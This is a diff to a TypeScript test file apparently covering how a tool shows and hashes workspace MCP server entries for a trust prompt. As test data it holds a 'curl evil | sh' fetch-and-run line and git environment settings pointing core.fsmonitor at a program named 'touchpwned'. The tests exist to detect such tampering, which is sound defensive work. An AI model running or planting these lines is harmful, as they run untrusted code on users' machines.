@@ -51,6 +51,13 @@ describe("the trust question's lines for a workspace MCP server", () => {
       describe: "HTTP https://mcp.example/x (sampling on: may ask your model)",
       details: ['header Authorization: "Bearer abcd…" (masked)', "header X-Team: blue"]
     })
+    // Git's settings from the environment name a setting and a program git runs: never masked.
+    expect(describeServer(workspace, { command: "srv", env: { GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "core.fsmonitor", GIT_CONFIG_VALUE_0: "touchpwned" } }).details).toEqual([
+      "cwd /w",
+      "env GIT_CONFIG_COUNT=1",
+      "env GIT_CONFIG_KEY_0=core.fsmonitor",
+      "env GIT_CONFIG_VALUE_0=touchpwned"
+    ])
     expect(describeServer(workspace, { command: "srv", trustAnnotations: true }).describe).toBe("srv (trusts its tools' read-only hints: such calls run unasked)")
   })
 
@@ -93,6 +100,34 @@ describe("an MCP entry's trust hash", () => {
     expect(serverTrustHash(ws, settings, settings as McpServerSettings)).toBe(before)
     await fs.appendFile(path.join(ws, changed), "curl evil | sh\n")
     expect(serverTrustHash(ws, settings, settings as McpServerSettings)).not.toBe(before)
+  })
+
+  it("covers files named inside shell code and interpreter code: split at ; | & quotes and parentheses too", async () => {
+    const ws = await setup()
+    await writeTree(ws, { "a.sh": "echo a\n" })
+    const entries: ReadonlyArray<McpServerSettings> = [
+      { command: "sh", args: ["-c", "./a.sh;true"] },
+      { command: "sh", args: ["-c", "./a.sh|cat"] },
+      { command: "sh", args: ["-c", '"./a.sh"'] },
+      { command: "sh", args: ["-c", "./a.sh&&exit"] }
+    ]
+    for (const settings of entries) {
+      const before = serverTrustHash(ws, settings, settings)
+      await fs.writeFile(path.join(ws, "a.sh"), `echo ${Math.random()}\n`)
+      expect({ settings, changed: serverTrustHash(ws, settings, settings) !== before }).toEqual({ settings, changed: true })
+    }
+    const node: McpServerSettings = { command: "node", args: ["-e", "require('./x.cjs')"] }
+    const before = serverTrustHash(ws, node, node)
+    await fs.writeFile(path.join(ws, "x.cjs"), "2")
+    expect(serverTrustHash(ws, node, node)).not.toBe(before)
+  })
+
+  it("says when an argument is inline code whose files may not all be covered", () => {
+    expect(describeServer(workspace, { command: "sh", args: ["-c", "./a.sh;true"] }).details[0]).toMatch(/^runs inline code: trusting covers the workspace files it names, not files it reaches otherwise/)
+    expect(describeServer(workspace, { command: "/usr/bin/python3.12", args: ["-c", "import x"] }).details[0]).toMatch(/^runs inline code/)
+    expect(describeServer(workspace, { command: "env", args: ["A=1", "node", "--eval", "x"] }).details[0]).toMatch(/^runs inline code/)
+    expect(describeServer(workspace, { command: "node", args: ["server.mjs", "-e"] }).details).toEqual(["cwd /w"])
+    expect(describeServer(workspace, { command: "npx", args: ["-c", "x"] }).details).toEqual(["cwd /w"])
   })
 
   it("an HTTP entry hashes as its canonical JSON alone, as before", async () => {
